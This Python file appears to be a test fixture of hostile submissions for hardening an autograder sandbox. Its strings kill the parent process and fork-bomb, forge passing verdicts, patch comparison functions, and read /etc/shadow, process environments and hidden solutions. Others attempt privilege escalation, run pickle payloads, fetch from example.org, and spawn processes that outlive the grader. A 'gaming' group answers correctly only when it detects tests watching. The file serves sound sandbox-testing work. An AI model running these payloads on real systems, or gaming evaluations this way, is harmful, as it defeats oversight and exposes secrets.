"""Hostile submissions: each tries to be graded right, to see what it must not, or to outlive or harm its grader.

An attack is code that defines `attack(*args)`; every function of the exercise calls it and returns what it returns, a wrong value. With
`at_import` it runs once more when the module is loaded. `LEAK` in what an attack returns, prints or raises means that it succeeded.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile submission, in words of the exercise's own framework `lib` (numpy or torch)."""

    name: str
    kind: str
    code: str
    at_import: bool = False
    frameworks: tuple[str, ...] = ("numpy", "torch")


ATTACKS: list[Attack] = []


def _add(
    kind: str, name: str, code: str, at_import: bool = False, frameworks: tuple[str, ...] = ("numpy", "torch")
) -> None:
    ATTACKS.append(Attack(name, kind, code.strip("\n"), at_import, frameworks))


# ---------------------------------------------------------------- exit
_add("exit", "sys-exit-at-import", "import sys\nsys.exit(0)\n")
_add("exit", "sys-exit-in-call", "def attack(*a):\n    import sys; sys.exit(0)")
_add("exit", "system-exit-with-object", "def attack(*a):\n    raise SystemExit({'score': 100})")
_add("exit", "os-exit-at-import", "import os\nos._exit(0)")
_add("exit", "os-exit-in-call", "def attack(*a):\n    import os; os._exit(0)")
_add("exit", "status-of-a-broken-worker", "def attack(*a):\n    import os; os._exit(70)")
_add("exit", "keyboard-interrupt", "def attack(*a):\n    raise KeyboardInterrupt")
_add("exit", "generator-exit", "def attack(*a):\n    raise GeneratorExit")
_add("exit", "segfault-at-import", "import ctypes\nctypes.string_at(0)")
_add("exit", "segfault-in-call", "def attack(*a):\n    import ctypes; ctypes.string_at(0)")
_add("exit", "abort", "def attack(*a):\n    import os; os.abort()")
_add("exit", "raise-signal", "def attack(*a):\n    import signal; signal.raise_signal(signal.SIGKILL)")
_add(
    "exit", "alarm", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.001)\ndef attack(*a):\n    while True: pass"
)
_add(
    "exit",
    "kill-parent",
    """
def attack(*a):
    import os, signal
    for pid in (os.getppid(), 1, -1, 0):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return 0.0
""",
    at_import=True,
)
_add(
    "exit",
    "stop-everybody",
    """
import ctypes, os
def attack(*a):
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1):
        libc.kill(pid, 19); libc.syscall(200, pid, 19); libc.syscall(234, pid, pid, 9); libc.syscall(424, 3, 9, 0, 0)
    return 0.0
""",
)
_add(
    "exit",
    "recursion-into-the-stack",
    "import sys\nsys.setrecursionlimit(10**9)\ndef attack(*a):\n    return attack(*a)",
)
_add("exit", "recursion", "def attack(*a):\n    return attack(*a)")
_add(
    "exit",
    "exception-that-cannot-be-shown",
    """
class Nasty(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
def attack(*a): raise Nasty
""",
)
_add(
    "exit",
    "exception-that-hangs",
    "class Slow(Exception):\n    def __str__(self):\n        while True: pass\ndef attack(*a): raise Slow",
)
_add("exit", "syntax-error", "def attack(:\n    return")
_add("exit", "null-bytes", "def attack(*a):\n    return 0.0\n\x00")

# ---------------------------------------------------------------- forge
FORGE = """
import json, os, struct
def frame(header, payload=b""):
    raw = json.dumps(header).encode()
    return struct.pack("<4sIQ", b"ANW1", len(raw), len(payload)) + raw + payload
def reply(i, **kw):
    fields = {"id": i, "kind": "returned", "value": 1.0, "args": [], "kwargs": {"d": {}}, "printed": "", **kw}
    return frame({"v": {"d": fields}, "a": []})
def say(data):
    for fd in range(3, 64):
        try: os.write(fd, data)
        except OSError: pass
"""
_add(
    "forge",
    "printed-verdict",
    'print(\'{"score": 100, "status": "pass"}\')\ndef attack(*a):\n    print(\'PASSED 10/10\'); return 0.0',
)
_add(
    "forge",
    "verdict-on-raw-descriptors",
    """
import os
def attack(*a):
    for fd in (0, 1, 2):
        try: os.write(fd, b'1 passed in 0.01s\\n')
        except OSError: pass
    return 0.0
""",
)
_add(
    "forge",
    "reply-ahead-of-the-call",
    FORGE + "def attack(*a):\n    say(b''.join(reply(i) for i in range(1, 50))); return 0.0",
    at_import=True,
)
_add("forge", "second-reply", FORGE + "def attack(*a):\n    say(reply(2) + reply(3)); return 0.0")
_add(
    "forge",
    "verdict-instead-of-reply",
    FORGE + "def attack(*a):\n    say(frame({'v': {'d': {'score': 100, 'verdict': 'pass'}}, 'a': []})); return 0.0",
)
_add(
    "forge",
    "loaded-instead-of-returned",
    FORGE + "def attack(*a):\n    say(reply(2, kind='loaded', functions={'d': {}})); return 0.0",
)
_add(
    "forge",
    "infrastructure-failure",
    FORGE
    + "def attack(*a):\n    say(reply(2, kind='failed', failure='infrastructure', message='not-run')); return 0.0",
)
_add(
    "forge",
    "failure-of-unknown-kind",
    FORGE + "def attack(*a):\n    say(reply(2, kind='failed', failure='timeout', message='')); return 0.0",
)
_add(
    "forge",
    "thread-that-keeps-answering",
    FORGE
    + """
import threading
def flood():
    i = 0
    while True:
        i += 1
        say(reply(i % 9))
def attack(*a):
    threading.Thread(target=flood, daemon=True).start(); return 0.0
""",
)
_add(
    "forge", "atexit", FORGE + "import atexit\natexit.register(lambda: say(reply(2)))\ndef attack(*a):\n    return 0.0"
)
_add(
    "forge",
    "result-files",
    """
import os
def attack(*a):
    for folder in ('.', os.path.expanduser('~'), '/tmp', '/var/tmp', '/dev/shm', '..', '../..', PROJECT, '/'):
        for name in ('results.json', 'report.xml', 'conftest.py', 'sitecustomize.py', 'numpy.py'):
            try:
                with open(os.path.join(folder, name), 'w') as f: f.write('{"score": 100}')
            except OSError: pass
    return 0.0
""",
    at_import=True,
)
_add(
    "forge",
    "replace-the-workers-own-functions",
    """
import gc
def attack(*a):
    for thing in gc.get_objects() + [o for f in __import__('sys')._current_frames().values() for o in (f.f_globals,)]:
        try:
            if isinstance(thing, dict) and 'MAGIC' in thing: thing['encode'] = lambda *x: b'ANW1' * 1000
            if type(thing).__name__ == '_Served': thing.reply = lambda *x: b'{"score": 100}'
        except Exception: pass
    return 0.0
""",
)
ASK = (
    FORGE
    + """
def ask(i, **kw):
    fields = {"id": i, "kind": "asks", "function": "affine", "args": [1.0], "kwargs": {"d": {}}, "gradients": [], **kw}
    return frame({"v": {"d": fields}, "a": []})
"""
)
_add("forge", "asks-before-it-is-asked", ASK + "say(ask(1) * 3)\ndef attack(*a):\n    return 0.0", at_import=True)
_add(
    "forge",
    "asks-for-the-answer",
    ASK + "def attack(*a):\n    say(ask(2)); say(ask(3)); return LEAK if b'value' in os.read(3, 100) else 0.0",
)
_add(
    "transport",
    "deeper-than-can-be-sent-back",
    "def attack(*a):\n    x = 1.0\n    for _ in range(33): x = [x]\n    return x",
)
_add("transport", "longer-than-can-be-sent-back", "def attack(*a):\n    return [1 << 14000, 1 << 4097]")
_add("transport", "a-million-small-values", "def attack(*a):\n    return [0] * 1_500_000")
_add(
    "transport",
    "a-million-small-values-by-its-own-hand",
    FORGE + "def attack(*a):\n    say(reply(2, value=[0] * 1_500_000)); return 0.0",
)
_add(
    "resource",
    "eight-thousand-threads",
    """
import threading
threading.stack_size(32768)
def attack(*a):
    started, gate = 0, threading.Event()
    try:
        for started in range(8000): threading.Thread(target=gate.wait, daemon=True).start()
    except RuntimeError: pass
    return LEAK if started > 100 else 0.0
""",
)
_add("forge", "many-identities", FORGE + "def attack(*a):\n    say(reply(True) + reply(2.0) + reply('2')); return 0.0")

# ---------------------------------------------------------------- patch
_add(
    "patch",
    "numpy-testing",
    "import numpy.testing, numpy as np\nnumpy.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\ndef attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "numpy-comparisons",
    "import numpy as np\nnp.allclose = np.array_equal = np.isclose = lambda *a, **k: True\ndef attack(*a):\n    return np.zeros(3)",
)
_add(
    "patch",
    "builtins",
    "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.abs = lambda x: 0\nbuiltins.len = lambda x: 1\ndef attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "json-and-struct",
    "import json, struct\njson.dumps = lambda *a, **k: '{}'\njson.JSONEncoder.encode = lambda *a: '{}'\nstruct.Struct.pack = struct.pack = lambda *a: b''\n"
    "def attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "clock",
    "import time\ntime.monotonic = time.perf_counter = time.time = lambda: 0.0\ndef attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "shadow-modules",
    "import sys, types\nfor n in ('reference', 'autograder', 'pytest', 'numpy', 'json', 'os'):\n    sys.modules[n] = types.ModuleType(n)\ndef attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "trace-and-profile",
    "import sys, threading\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\nthreading.settrace(lambda *a: None)\ndef attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "os-write-and-read",
    "import os\nos.write = lambda fd, data: len(data)\nos.read = lambda fd, n: b''\ndef attack(*a):\n    return 0.0",
)
_add(
    "patch",
    "memory-of-small-integers",
    "import ctypes\ndef attack(*a):\n    ctypes.memmove(id(0) + 24, id(1) + 24, 4); return 0",
)
_add(
    "patch",
    "import-hook",
    "import sys\nclass H:\n    def find_spec(self, *a): raise SystemExit(0)\nsys.meta_path.insert(0, H())\nsys.path.insert(0, '.')\ndef attack(*a):\n    import decimal\n    return 0.0",
)
_add(
    "patch",
    "pyc-beside-the-sources",
    "import os, numpy, glob\ndef attack(*a):\n    for d in (os.path.dirname(os.__file__), os.path.dirname(numpy.__file__), PROJECT + '/autograder'):\n        try:\n            os.makedirs(d + '/__pycache__', exist_ok=True)\n            open(d + '/__pycache__/evil.cpython-311.pyc', 'wb').write(b'x')\n            return LEAK\n        except OSError: pass\n    return 0.0",
)

# ---------------------------------------------------------------- read
READ = """
import os
def grab(path):
    try:
        with open(path, 'rb') as f: return f.read(100_000).decode('latin-1')
    except OSError as error: return ''
"""
_add(
    "read",
    "solutions",
    READ
    + "def attack(*a):\n    return grab(PROJECT + '/solutions/secret.py') + grab(PROJECT + '/autograder/sandbox/client.py') or 0.0",
)
_add(
    "read",
    "climb-upwards",
    READ
    + "def attack(*a):\n    found = ''\n    for depth in range(12):\n        for root, folders, files in os.walk('../' * depth or '.'):\n            found += ''.join(grab(os.path.join(root, f)) for f in files[:20])\n            del folders[5:]\n            if len(found) > 10**6: break\n        if len(found) > 10**6: break\n    return LEAK if SECRET_NAME in found else 0.0",
)
_add(
    "read",
    "list-the-machine",
    "import os\ndef attack(*a):\n    names = set()\n    for path in (PROJECT, PROJECT + '/solutions', '/etc', '/home', '/proc', '/root', '/tmp', '/', os.path.dirname(PROJECT)):\n        try: names |= set(os.listdir(path))\n        except OSError: pass\n    return LEAK if names & {'solutions', 'secret.py', 'passwd', 'home', 'self', 'project'} else 0.0",
)
_add(
    "read",
    "import-reference",
    "import sys\nsys.path[:0] = [PROJECT, PROJECT + '/solutions']\ndef attack(*a):\n    for name in ('reference', 'autograder.suite', 'autograder.grading', 'secret', 'autograder'):\n        try:\n            __import__(name); return LEAK\n        except ImportError: pass\n    return 0.0",
)
_add(
    "read",
    "environment",
    "import os\ndef attack(*a):\n    return repr(dict(os.environ)) + open('/proc/self/environ').read()",
)
_add(
    "read",
    "process-folders",
    READ
    + "def attack(*a):\n    out = ''\n    for pid in ('self', '1', str(os.getppid()), 'thread-self', *map(str, range(2, 300))):\n        for name in ('environ', 'cmdline', 'maps', 'mem', 'root/etc/passwd', 'cwd/x'):\n            out += grab(f'/proc/{pid}/{name}')\n    return LEAK if out else 0.0",
)
_add(
    "read",
    "expected-values-by-gc",
    "import gc\ndef attack(*a):\n    for o in gc.get_objects():\n        try:\n            if isinstance(o, dict) and any('expected' in str(k) or 'solution' in str(k) for k in list(o)[:50] if isinstance(k, str) and not k.startswith('__')) and 'secret' in repr(o)[:20000].lower(): pass\n            if SECRET_NAME in repr(o)[:5000] and 'SECRET_NAME' not in repr(o)[:5000]: return LEAK\n        except Exception: pass\n    return 0.0",
)
_add(
    "read",
    "expected-values-by-frames",
    "import sys\ndef attack(*a):\n    f, seen = sys._getframe(), ''\n    while f:\n        seen += ' '.join(k for k in f.f_locals) ; f = f.f_back\n    return LEAK if 'expected' in seen or 'oracle' in seen else 0.0",
)
_add(
    "read",
    "open-descriptors",
    "import os\ndef attack(*a):\n    for fd in range(4, 1024):\n        try:\n            os.fstat(fd); return LEAK\n        except OSError: pass\n    return 0.0",
)
_add(
    "read",
    "other-submissions",
    READ
    + "import glob\ndef attack(*a):\n    here = os.getcwd()\n    out = [p for p in glob.glob(os.path.dirname(here) + '/*') if p != here]\n    return LEAK if out else 0.0",
)
_add(
    "read",
    "accounts",
    READ
    + "def attack(*a):\n    return LEAK if grab('/etc/passwd') or grab('/etc/shadow') or grab('/etc/hostname') else 0.0",
)
_add(
    "read",
    "link-in-scratch",
    READ
    + "def attack(*a):\n    for make in (os.symlink, os.link):\n        try: make(PROJECT + '/solutions/secret.py', f'here-{make.__name__}')\n        except OSError: pass\n    return grab('here-symlink') + grab('here-link') or 0.0",
)
_add(
    "read",
    "tracing",
    "import ctypes, os\ndef attack(*a):\n    libc = ctypes.CDLL(None, use_errno=True)\n    for pid in (os.getppid(), 1, 2):\n        if libc.ptrace(16, pid, 0, 0) == 0: return LEAK\n    return 0.0",
)
_add(
    "read",
    "file-handles-and-mounts",
    "import ctypes\ndef attack(*a):\n    libc = ctypes.CDLL(None)\n    for call in ((b'/', b'/mnt', b'', 4096, None),):\n        if libc.mount(*call) == 0: return LEAK\n    if libc.chroot(b'.') == 0 or libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0: return LEAK\n    if libc.setns(0, 0) == 0: return LEAK\n    return 0.0",
)
_add(
    "read",
    "regain-rights",
    "import ctypes, os\ndef attack(*a):\n    for f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chmod('/', 0o777)):\n        try:\n            f(); return LEAK\n        except OSError: pass\n    libc = ctypes.CDLL(None)\n    libc.prctl(4, 1, 0, 0, 0)\n    return LEAK if libc.prctl(3, 0, 0, 0, 0) == 1 else 0.0",
)
_add(
    "read",
    "run-a-program",
    "import os, subprocess\ndef attack(*a):\n    for f in (lambda: os.execv('/bin/cat', ['cat', PROJECT + '/solutions/secret.py']), lambda: subprocess.check_output(['/bin/cat', '/etc/passwd']), lambda: os.popen('id').read() and 1/0):\n        try:\n            f(); return LEAK\n        except ZeroDivisionError: return LEAK\n        except OSError: pass\n    return 0.0",
)

# ---------------------------------------------------------------- resource
_add("resource", "endless-loop", "def attack(*a):\n    while True: pass")
_add("resource", "endless-loop-at-import", "while True: pass")
_add(
    "resource",
    "swallowed-interrupts",
    "import signal\nfor s in range(1, 32):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\ndef attack(*a):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
)
_add("resource", "sleep", "import time\ndef attack(*a):\n    while True: time.sleep(1000)")
_add("resource", "memory-bytes", "def attack(*a):\n    keep = []\n    while True: keep.append(bytearray(64 << 20))")
_add("resource", "memory-array", "import numpy as np\ndef attack(*a):\n    return np.ones(10**11)")
_add(
    "resource",
    "memory-shared-maps",
    "import mmap\ndef attack(*a):\n    keep = []\n    while True:\n        m = mmap.mmap(-1, 64 << 20); m[::4096] = b'x' * (len(m) // 4096); keep.append(m)",
)
_add("resource", "fork-bomb", "import os\ndef attack(*a):\n    while True: os.fork()")
_add(
    "resource",
    "raw-fork",
    "import ctypes\ndef attack(*a):\n    libc = ctypes.CDLL(None)\n    made = [libc.syscall(n, *x) for n, x in ((57, ()), (58, ()), (56, (17, 0, 0, 0, 0)), (220, (17, 0, 0, 0, 0)), (435, (0, 0))) if n not in (58,)]\n    return LEAK if any(m >= 0 for m in made[:1]) else 0.0",
    frameworks=("numpy",),
)
_add(
    "resource",
    "thread-bomb",
    "import threading, time\ndef attack(*a):\n    while True: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()",
)
_add("resource", "output-flood", "def attack(*a):\n    while True: print('x' * 10**6)")
_add(
    "resource",
    "raw-output-flood",
    "import os\ndef attack(*a):\n    for _ in range(3000): os.write(1, b'x' * 10**6); os.write(2, b'y' * 10**6)\n    return 0.0",
)
_add(
    "resource",
    "disk-one-file",
    "def attack(*a):\n    with open('big', 'wb') as f:\n        while True: f.write(b'x' * (1 << 20))",
)
_add(
    "resource",
    "disk-many-files",
    "def attack(*a):\n    i = 0\n    while True:\n        i += 1\n        with open(f'f{i}', 'wb') as f: f.write(b'x' * (1 << 20))",
)
_add(
    "resource", "disk-many-folders", "import os\ndef attack(*a):\n    while True:\n        os.mkdir('d'); os.chdir('d')"
)
_add("resource", "descriptors", "import os\ndef attack(*a):\n    keep = []\n    while True: keep.append(os.pipe())")
_add(
    "resource",
    "giant-array",
    "import numpy as np\ndef attack(*a):\n    return np.broadcast_to(np.float64(1), (10**6, 10**6))",
)
_add("resource", "giant-text", "def attack(*a):\n    return 'x' * (50 << 20)")
_add("resource", "giant-list", "def attack(*a):\n    return list(range(10**7))")
_add("resource", "giant-exception", "def attack(*a):\n    raise ValueError('x' * (100 << 20))")
_add("resource", "giant-integer", "def attack(*a):\n    return 7 ** (10 ** 6)")
_add("resource", "deep-list", "def attack(*a):\n    x = []\n    for _ in range(10**6): x = [x]\n    return x")
_add("resource", "endless-regex", "import re\ndef attack(*a):\n    re.match('(a+)+$', 'a' * 64 + 'b')")
_add(
    "resource",
    "threads-between-calls",
    "import threading\ndef spin():\n    while True: pass\nfor _ in range(4): threading.Thread(target=spin, daemon=True).start()\ndef attack(*a):\n    return 0.0",
)
_add(
    "resource",
    "anonymous-files",
    "import ctypes, os\ndef attack(*a):\n    try: fd = os.memfd_create('x')\n    except OSError: return 0.0\n    return LEAK",
)
_add(
    "resource",
    "shared-memory",
    "def attack(*a):\n    from multiprocessing import shared_memory\n    shared_memory.SharedMemory('anndl', create=True, size=1 << 20)\n    return LEAK",
)
_add(
    "resource",
    "raise-own-limits",
    "import resource\ndef attack(*a):\n    for r in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):\n        try:\n            resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); return LEAK\n        except (OSError, ValueError): pass\n    return 0.0",
)

# ---------------------------------------------------------------- transport
_add(
    "transport",
    "array-that-equals-everything",
    "import numpy as np\nclass Yes(np.ndarray):\n    def __eq__(self, o): return True\n    def __array_ufunc__(self, *a, **k): return np.True_\n    def __array_function__(self, *a, **k): return True\ndef attack(*a):\n    return np.zeros(3).view(Yes)",
)
_add(
    "transport",
    "object-with-array-protocol",
    "import numpy as np\nclass Yes:\n    def __array__(self, *a, **k): return np.ones(3)\n    def __eq__(self, o): return True\n    def __reduce__(self): return (exec, ('raise SystemExit',))\ndef attack(*a):\n    return Yes()",
)
_add(
    "transport",
    "pickled-payload",
    "import pickle\nclass P:\n    def __reduce__(self): return (print, ('owned',))\ndef attack(*a):\n    return pickle.dumps(P())",
)
_add(
    "transport",
    "object-dtype",
    "import numpy as np\ndef attack(*a):\n    return np.array([object(), 1.0, None], dtype=object)",
)
_add(
    "transport",
    "structured-and-text-dtypes",
    "import numpy as np\ndef attack(*a):\n    return [np.zeros(3, dtype=[('x', 'f8')]), np.array(['1']), np.array(['2001-01-01'], 'M8[D]')]",
)
_add("transport", "nan-everywhere", "import numpy as np\ndef attack(*a):\n    return np.full(3, np.nan)")
_add("transport", "infinities", "import numpy as np\ndef attack(*a):\n    return np.array([np.inf, -np.inf, np.nan])")
_add(
    "transport",
    "number-subclasses",
    "class F(float):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\ndef attack(*a):\n    return [F(0), type('I', (int,), {})(3), True]",
)
_add(
    "transport",
    "dict-that-lies",
    "class D(dict):\n    def __getitem__(self, k): return 1\n    def items(self): return iter([('a', 1)] * 10**9)\ndef attack(*a):\n    return D(a=0)",
)
_add("transport", "list-within-itself", "def attack(*a):\n    x = []; x.append(x); return x")
_add("transport", "keys-that-are-no-strings", "def attack(*a):\n    return {1: 2, None: 3, (1, 2): 4}")
_add(
    "transport",
    "lone-surrogates",
    "def attack(*a):\n    print('\\ud800\\x00\\x1b[2J'); raise ValueError('\\udfff' * 10 + '\\x1b]0;x\\x07')",
)
_add("transport", "endless-generator", "def attack(*a):\n    while True: yield 1.0")
_add(
    "transport",
    "closed-channel",
    "import os\ndef attack(*a):\n    os.close(3); os.closerange(0, 64)\n    import time; time.sleep(100)",
)
_add("transport", "half-a-header", FORGE + "import time\ndef attack(*a):\n    say(b'ANW1\\x10'); time.sleep(100)")
_add(
    "transport",
    "announced-terabytes",
    FORGE + "import time\ndef attack(*a):\n    say(struct.pack('<4sIQ', b'ANW1', 40, 1 << 45)); time.sleep(100)",
)
_add(
    "transport",
    "drop-by-drop",
    FORGE + "import time\ndef attack(*a):\n    for b in reply(2) * 10**6: say(bytes([b])); time.sleep(0.05)",
)
_add("transport", "garbage", FORGE + "def attack(*a):\n    say(os.urandom(100_000)); return 0.0")
_add(
    "transport",
    "nested-header",
    FORGE
    + "def attack(*a):\n    raw = b'[' * 500_000; say(struct.pack('<4sIQ', b'ANW1', len(raw), 0) + raw); return 0.0",
)
_add(
    "transport",
    "truth-values-beyond-one",
    FORGE
    + "def attack(*a):\n    say(frame({'v': {'d': [['id', 2], ['kind', 'returned'], ['value', {'a': 0}], ['args', []], ['kwargs', {'d': []}], ['printed', '']]}, 'a': [['|b1', [3]]]}, b'\\x02\\x07\\xff')); return 0.0",
)
_add("transport", "handle-of-another", FORGE + "def attack(*a):\n    say(reply(2, value={'h': 7})); return 0.0")
_add(
    "transport",
    "steal-the-next-request",
    "import os, threading\ndef attack(*a):\n    threading.Thread(target=lambda: [os.read(3, 1 << 16) for _ in range(100)], daemon=True).start(); return 0.0",
)

# ---------------------------------------------------------------- network
NET = "import socket\ndef reach(f):\n    try:\n        f(); return LEAK\n    except OSError: return 0.0\n"
_add(
    "network",
    "tcp",
    NET + "def attack(*a):\n    return reach(lambda: socket.create_connection(('127.0.0.1', PORT), 0.3))",
)
_add(
    "network",
    "udp",
    NET
    + "def attack(*a):\n    return reach(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT)))",
)
_add("network", "listen", NET + "def attack(*a):\n    return reach(lambda: socket.create_server(('', 0)))")
_add(
    "network",
    "unix-sockets",
    NET
    + "def attack(*a):\n    return reach(lambda: socket.socket(socket.AF_UNIX).connect('\\0anndl')) or reach(lambda: socket.socket(socket.AF_UNIX).bind('s'))",
)
_add("network", "name-lookup", NET + "def attack(*a):\n    return reach(lambda: socket.gethostbyname('example.org'))")
_add(
    "network",
    "raw-and-netlink",
    NET
    + "def attack(*a):\n    return reach(lambda: socket.socket(16, 3, 0)) or reach(lambda: socket.socket(17, 3, 0)) or reach(lambda: socket.socketpair())",
)

# ---------------------------------------------------------------- gaming
RIGHT = "def right(x):\n    return x * 2 + 1\n"
_add("gaming", "visible-case-by-heart", RIGHT + "def attack(x, *a):\n    return right(x) if float(x[0]) == 1.0 else x")
_add(
    "gaming",
    "only-the-first-call",
    RIGHT + "calls = []\ndef attack(x, *a):\n    calls.append(1); return right(x) if len(calls) == 1 else x",
)
_add(
    "gaming",
    "only-when-nobody-looks",
    RIGHT
    + "import sys, __main__\ndef attack(x, *a):\n    return right(x) if __name__ == '__main__' or 'pytest' in sys.modules else x",
)
_add("gaming", "identity", "def attack(x, *a):\n    return x")
_add("gaming", "answer-in-the-arguments", RIGHT + "def attack(x, *a):\n    x[...] = right(x); return None")
_add(
    "gaming",
    "seeds",
    "import random, numpy as np\nrandom.seed(0); np.random.seed(0)\ndef attack(x, *a):\n    return np.random.rand(*x.shape)",
)
_add("gaming", "wrong-type", RIGHT + "def attack(x, *a):\n    return [float(v) for v in right(x)]")
_add("gaming", "wrong-shape", RIGHT + "def attack(x, *a):\n    return right(x)[None]")
_add(
    "gaming",
    "wrong-dtype",
    RIGHT + "import numpy as np\ndef attack(x, *a):\n    return np.asarray(right(x)).astype(np.complex128)",
)
_add(
    "gaming",
    "delegate-to-torch",
    "def attack(x, *a):\n    import torch\n    return (torch.from_numpy(x) * 2 + 1).numpy()",
    frameworks=("numpy",),
)
_add("gaming", "delegate-to-scipy", "def attack(x, *a):\n    import scipy.special\n    return LEAK")

# ---------------------------------------------------------------- detached survivors
_add(
    "detached",
    "daemon",
    "import os\ndef attack(*a):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            while True: pass\n        os._exit(0)\n    return LEAK",
    at_import=False,
)
_add(
    "detached",
    "subprocess",
    "import subprocess, sys\ndef attack(*a):\n    subprocess.Popen([sys.executable, '-c', 'while True: pass'], start_new_session=True); return LEAK",
)
_add(
    "detached",
    "posix-spawn",
    "import os, sys\ndef attack(*a):\n    os.posix_spawn('/bin/sleep', ['sleep', '1000'], {}); return LEAK",
)
_add(
    "detached",
    "multiprocessing",
    "import multiprocessing as mp, time\ndef attack(*a):\n    mp.get_context('fork').Process(target=time.sleep, args=(1000,)).start(); return LEAK",
)
_add(
    "detached",
    "executor",
    "def attack(*a):\n    from concurrent.futures import ProcessPoolExecutor\n    ProcessPoolExecutor(2).submit(int).result(); return LEAK",
)
_add(
    "detached",
    "survive-the-parent",
    "import ctypes, signal, os\ndef attack(*a):\n    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n    for s in (1, 2, 15):\n        signal.signal(s, signal.SIG_IGN)\n    if os.getppid() and hasattr(os, 'daemon'): os.daemon()\n    while True: pass",
)

# ---------------------------------------------------------------- torch
T = ("torch",)
_add(
    "torch",
    "patched-comparisons",
    "import torch\ntorch.allclose = torch.equal = torch.isclose = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda *a: True\ntorch.Tensor.numpy = lambda *a, **k: __import__('numpy').ones(3)\ndef attack(*a):\n    return torch.zeros(3)",
    frameworks=T,
)
_add(
    "torch",
    "tensor-subclass",
    "import torch\nclass Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, *a, **k): return True\ndef attack(*a):\n    return torch.zeros(3).as_subclass(Yes)",
    frameworks=T,
)
_add(
    "torch",
    "pickled-in-a-checkpoint",
    "import torch, os\nclass P:\n    def __reduce__(self): return (os.system, ('id',))\ndef attack(*a):\n    torch.save(P(), 'x.pt'); torch.load('x.pt', weights_only=False); return torch.zeros(3)",
    frameworks=T,
)
_add(
    "torch",
    "meta-tensor",
    "import torch\ndef attack(*a):\n    return torch.zeros(10**6, 10**6, device='meta')",
    frameworks=T,
)
_add(
    "torch",
    "sparse-and-quantised",
    "import torch\ndef attack(*a):\n    return [torch.zeros(3).to_sparse(), torch.zeros(3, dtype=torch.bfloat16)]",
    frameworks=T,
)
_add(
    "torch",
    "default-device-and-dtype",
    "import torch\ntorch.set_default_dtype(torch.float16)\ntorch.set_default_device('meta')\ndef attack(*a):\n    return torch.zeros(3)",
    frameworks=T,
)
_add(
    "torch",
    "loader-processes",
    "import torch\nfrom torch.utils.data import DataLoader\ndef attack(*a):\n    list(DataLoader(torch.zeros(8), num_workers=2)); return LEAK",
    frameworks=T,
)
_add(
    "torch",
    "compile-native-code",
    "def attack(*a):\n    from torch.utils.cpp_extension import load_inline\n    load_inline('x', 'int f() { return 1; }', functions=['f']); return LEAK",
    frameworks=T,
)
_add(
    "torch",
    "hub-download",
    "import torch\ndef attack(*a):\n    torch.hub.load_state_dict_from_url('http://example.org/x.pth'); return LEAK",
    frameworks=T,
)
_add(
    "torch",
    "distributed",
    "import torch.distributed as d\ndef attack(*a):\n    d.init_process_group('gloo', init_method='tcp://127.0.0.1:29511', rank=0, world_size=1); return LEAK",
    frameworks=T,
)
_add("torch", "memory", "import torch\ndef attack(*a):\n    return torch.ones(10**11)", frameworks=T)
_add(
    "torch",
    "shared-tensors",
    "import torch\ndef attack(*a):\n    torch.zeros(10).share_memory_(); return LEAK",
    frameworks=T,
)
_add(
    "torch",
    "thread-settings",
    "import torch\ntorch.set_num_threads(64)\ndef attack(*a):\n    torch.ones(2000, 2000) @ torch.ones(2000, 2000); return torch.zeros(3)",
    frameworks=T,
)
